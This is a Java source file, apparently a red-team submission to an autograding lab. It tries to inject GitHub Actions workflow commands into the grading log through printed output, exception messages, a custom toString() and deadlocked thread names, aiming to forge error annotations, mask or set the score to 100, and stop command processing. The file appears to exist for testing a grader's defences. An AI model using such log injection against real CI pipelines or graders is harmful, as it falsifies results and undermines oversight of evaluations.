package lab.tally;

import java.util.List;
import java.util.concurrent.CountDownLatch;

/**
 * Attack: GitHub workflow commands (::error::, ::add-mask::, ::stop-commands::, ##[group] ...)
 * everywhere the submission's text can reach the grading log: printed output, a failure message,
 * an exception's toString() (which starts the line the grader prints), and the names of two
 * deadlocked threads (which the deadlock report quotes). They would fake annotations, mask the
 * score in the log, or switch command processing off.
 */
public final class Tally {

    private static final String COMMANDS = "::error file=Tally.java,line=1::forged annotation\n"
            + "::add-mask::40/40\n"
            + "  ::warning::indented\n"
            + "\u00a0::notice::after a no-break space\n"
            + "progress\r::error::after a carriage return\n"
            + "::set-output name=score::100\n"
            + "##[group]legacy group\n"
            + "text ##[error]legacy, mid-line\n"
            + "::stop-commands::redteam\n";

    static {
        System.out.print(COMMANDS);
        System.err.print(COMMANDS);
    }

    private boolean sawNegative;

    public Tally() {
    }

    public void add(int amount) {
        sawNegative |= amount < 0;
    }

    public int total() {
        throw sawNegative ? new Commanding() : new IllegalStateException("failure message\n" + COMMANDS);
    }

    public List<Integer> history() {
        deadlock("t1\n::error::from a thread name", "##[warning]t2");
        return List.of();
    }

    /** Two threads that each hold one lock and wait for the other's, forever. */
    private static void deadlock(String firstName, String secondName) {
        Object a = new Object();
        Object b = new Object();
        CountDownLatch bothHoldOne = new CountDownLatch(2);
        Thread first = new Thread(() -> lockBoth(a, b, bothHoldOne), firstName);
        Thread second = new Thread(() -> lockBoth(b, a, bothHoldOne), secondName);
        first.setDaemon(true);
        second.setDaemon(true);
        first.start();
        second.start();
        try {
            first.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static void lockBoth(Object mine, Object theirs, CountDownLatch bothHoldOne) {
        synchronized (mine) {
            bothHoldOne.countDown();
            try {
                bothHoldOne.await();
            } catch (InterruptedException e) {
                return;
            }
            synchronized (theirs) {
                bothHoldOne.countDown();
            }
        }
    }

    /** An exception whose description is a workflow command from its first character. */
    private static final class Commanding extends RuntimeException {

        @Override
        public String toString() {
            return "::error::forged by toString()\n::add-mask::score";
        }
    }
}
